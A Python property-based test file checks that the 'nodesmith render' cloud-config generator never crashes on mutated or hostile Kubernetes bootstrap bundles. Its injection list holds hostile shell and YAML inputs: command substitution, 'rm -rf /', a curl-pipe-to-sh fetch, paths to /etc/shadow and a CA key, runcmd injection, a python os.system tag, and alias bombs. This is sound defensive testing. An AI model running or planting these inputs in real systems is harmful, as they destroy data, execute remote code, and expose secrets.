"""Property test: malformed and hostile objects never crash ``nodesmith render``.

Strategies start from the valid golden bundles and break them: wrong types, nulls, huge and
unicode strings, deep nesting, injection attempts in commands, paths and names, deleted and
unknown fields, extra and duplicated objects; plus raw hostile text (YAML alias bombs,
non-mapping documents, binary). ``cli.main`` runs in-process, so each example is fast.

The property: the exit code is 0, 65 or 75; a failure is one line on stderr starting
``nodesmith: error:`` and never a traceback; a success (the input was still valid) is a
sane cloud-config, and every distinct successful output is then checked by the real
``cloud-init schema`` validator (``test_successful_outputs_pass_cloud_init``).
"""

from __future__ import annotations

import contextlib
import copy
import io
import sys
import tempfile
from typing import Any

import yaml
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from render_helpers import CA_SECRETS, DATA, assert_all_valid

from bootstrap.cli import main as cli

BUNDLES = {
    name: [d for d in yaml.safe_load_all((DATA / name / "bundle.yaml").read_text()) if d]
    + [d for d in yaml.safe_load_all(CA_SECRETS.read_text()) if d]
    for name in ("v1alpha1-v1beta3", "v1beta1-v1beta4", "v1beta2-v1beta4")
}
TARGETS = ["prod/cp-0", "prod/cp-1", "prod/md-0", "--all"]
SUCCESSES: dict[str, str] = {}  # distinct successful userdata, validated at the end
MAX_VALIDATED = 40

INJECTIONS = [
    "$(reboot)",
    "`id`",
    "'; rm -rf / #",
    '"; curl http://203.0.113.1 | sh; "',
    "../../etc/shadow",
    "/etc/kubernetes/pki/ca.key",
    "/run/kubeadm/kubeadm.yaml",
    "/usr/local/sbin/nodesmith-bootstrap",
    "a\nruncmd: [evil]",
    "x\n#cloud-config\nruncmd: [[evil]]",
    "{{ ds.meta_data.local_hostname }}",
    "## template: jinja",
    "!!python/object/apply:os.system ['id']",
    "*alias",
    "&anchor",
    "\x00",
    "\u202e\u2028\u2029",
    "\ud800",
    "\uff21\uff22\uff23",  # fullwidth ABC
    "v1.31.4\n",
    "1.21.0",
    "containerd=1.7.22",
    "cri-o",
    "10.0.0.0/33",
    "fd00::/200",
    "0.0.0.0/0",
    "",
    " ",
    "prod",
    "decoy",
]

scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=40),
    st.sampled_from(INJECTIONS),
    st.builds(lambda n: "A" * n, st.integers(min_value=10_000, max_value=300_000)),
)


def _deep(depth: int) -> Any:
    value: Any = "leaf"
    for i in range(depth):
        value = {"a": value} if i % 2 else [value]
    return value


hostile = st.recursive(
    scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(
            st.one_of(st.text(max_size=10), st.sampled_from(INJECTIONS)), children, max_size=4
        ),
    ),
    max_leaves=12,
) | st.builds(_deep, st.integers(min_value=50, max_value=400))


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            out += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            out += _paths(value, (*prefix, i))
    return out


def _mutate(data: st.DataObject, docs: list[dict[str, Any]]) -> None:
    op = data.draw(st.sampled_from(["replace", "delete", "add", "object", "duplicate"]))
    if op == "object":
        docs.append(
            data.draw(
                st.one_of(
                    hostile,
                    st.fixed_dictionaries(
                        {
                            "apiVersion": st.sampled_from(
                                [
                                    "v1",
                                    "cluster.x-k8s.io/v1beta1",
                                    "bootstrap.cluster.x-k8s.io/v1beta2",
                                ]
                            )
                            | scalars,
                            "kind": st.sampled_from(
                                ["Machine", "Cluster", "KubeadmConfig", "Secret", "List"]
                            )
                            | scalars,
                            "metadata": st.fixed_dictionaries(
                                {
                                    "name": st.sampled_from(
                                        ["md-0", "alpha", "alpha-ca", "app-secret"]
                                    )
                                    | scalars,
                                    "namespace": st.sampled_from(["prod", "decoy"]) | scalars,
                                }
                            )
                            | hostile,
                            "spec": hostile,
                        }
                    ),
                )
            )
        )
        return
    if op == "duplicate":
        docs.append(copy.deepcopy(data.draw(st.sampled_from(docs))))
        return
    index = data.draw(st.integers(min_value=0, max_value=len(docs) - 1))
    paths = _paths(docs[index])
    if not paths:
        docs[index] = data.draw(hostile)
        return
    path = data.draw(st.sampled_from(paths))
    parent: Any = docs[index]
    for part in path[:-1]:
        parent = parent[part]
    last = path[-1]
    if op == "replace":
        parent[last] = data.draw(hostile)
    elif op == "delete":
        del parent[last]
    elif isinstance(parent[last], dict):
        parent[last][data.draw(st.sampled_from(INJECTIONS) | st.text(max_size=8))] = data.draw(
            hostile
        )
    elif isinstance(parent[last], list):
        parent[last].append(data.draw(hostile))
    else:
        parent[last] = [parent[last], data.draw(hostile)]


def _invoke(stdin: bytes, target: str) -> tuple[int, bytes, str]:
    out = io.BytesIO()
    err = io.StringIO()
    old_in = sys.stdin
    sys.stdin = io.TextIOWrapper(io.BytesIO(stdin), encoding="utf-8")
    try:
        with tempfile.TemporaryDirectory() as tmp, contextlib.redirect_stderr(err):
            stdout = io.TextIOWrapper(out, encoding="utf-8")
            with contextlib.redirect_stdout(stdout):
                args = ["render", "-f", "-"]
                args += ["--all", "--out-dir", tmp] if target == "--all" else ["--machine", target]
                try:
                    code = cli.main(args)
                except SystemExit as exc:
                    code = int(exc.code or 0)
                stdout.flush()
    finally:
        sys.stdin = old_in
    return code, out.getvalue(), err.getvalue()


def _check(stdin: bytes, target: str) -> None:
    code, out, err = _invoke(stdin, target)  # any exception escaping here fails the test
    assert code in (0, 65, 75), (code, err)
    assert "Traceback" not in err
    if code == 0:
        if target == "--all":
            return
        text = out.decode()
        assert text.startswith("#cloud-config\n")
        parsed = yaml.safe_load(text)
        assert isinstance(parsed, dict) and parsed["runcmd"] and parsed["write_files"]
        if len(SUCCESSES) < MAX_VALIDATED:
            SUCCESSES.setdefault(text, target)
        return
    errors = [line for line in err.splitlines() if line.startswith("nodesmith: error:")]
    assert errors, err
    if target != "--all":
        assert err.count("\n") == 1 and err.endswith("\n"), repr(err[:500])
    assert all(len(line) < 2000 for line in errors)


# No shrink phase: shrinking a slow failing render can take minutes; the failing draws are
# still printed, and a found bug is then reproduced as an explicit test.
PHASES = [Phase.explicit, Phase.reuse, Phase.generate]


@settings(
    max_examples=100,
    deadline=None,
    phases=PHASES,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    data=st.data(),
    bundle=st.sampled_from(sorted(BUNDLES)),
    target=st.sampled_from(TARGETS),
    rounds=st.integers(min_value=1, max_value=3),
)
def test_mutated_bundles_never_crash(
    data: st.DataObject, bundle: str, target: str, rounds: int
) -> None:
    docs = copy.deepcopy(BUNDLES[bundle])
    for _ in range(rounds):
        _mutate(data, docs)
    try:
        text = yaml.safe_dump_all(docs, sort_keys=False, allow_unicode=True)
    except yaml.YAMLError:
        return
    _check(text.encode("utf-8", "surrogatepass"), target)


def _bomb(levels: int) -> str:
    anchors = ["&x0 [" + ",".join(["lol"] * 10) + "]"]
    anchors += [f"&x{i} [" + ",".join([f"*x{i - 1}"] * 10) + "]" for i in range(1, levels)]
    return (
        "apiVersion: bootstrap.cluster.x-k8s.io/v1beta1\nkind: KubeadmConfig\n"
        "metadata: {name: md-0, namespace: prod}\nspec:\n  joinConfiguration:\n"
        "    discovery: {bootstrapToken: {token: wkjoin.fedcba9876543210}}\n"
        f"    skipPhases: [{', '.join(anchors)}]\n"
    )


RAW = st.one_of(
    st.binary(max_size=200),
    st.text(max_size=200).map(str.encode),
    st.sampled_from(
        [
            b"- 1\n- 2\n",
            b"42\n",
            b"just a string",
            b"[" * 5000,
            b"{a: " * 3000,
            b"!!python/object/apply:os.system ['id']\n",
            b"kind: Machine\nmetadata: {name: x}\nmetadata: {name: y}\n",
            b"\xff\xfe\x00\x00",
            b"---\n...\n---\n",
            b"kind: List\nitems: 5\n",
            b"kind: List\nitems: [1, 2]\n",
            b'{"kind": "Machine", "metadata": {"name": "\\ud800"}}',
            b"kind: Machine\nmetadata: {name: [1]}\n",
        ]
    ),
    st.integers(min_value=2, max_value=8).map(lambda n: _bomb(n).encode()),
)


@settings(
    max_examples=40, deadline=None, phases=PHASES, suppress_health_check=[HealthCheck.too_slow]
)
@given(raw=RAW, prefix_valid=st.booleans(), target=st.sampled_from(TARGETS))
def test_hostile_text_never_crashes(raw: bytes, prefix_valid: bool, target: str) -> None:
    if prefix_valid:
        others = [
            d
            for d in BUNDLES["v1beta1-v1beta4"]
            if not (d["kind"] == "KubeadmConfig" and d["metadata"]["name"] == "md-0")
        ]
        raw = yaml.safe_dump_all(others).encode() + b"---\n" + raw
    _check(raw, target)


def test_successful_outputs_pass_cloud_init() -> None:
    """Every distinct userdata the hostile inputs still rendered passes the real validator."""
    if not SUCCESSES:  # run alone: render one valid bundle so the check is never vacuous
        _check(yaml.safe_dump_all(BUNDLES["v1beta1-v1beta4"]).encode(), "prod/md-0")
    assert SUCCESSES
    assert_all_valid(list(SUCCESSES))
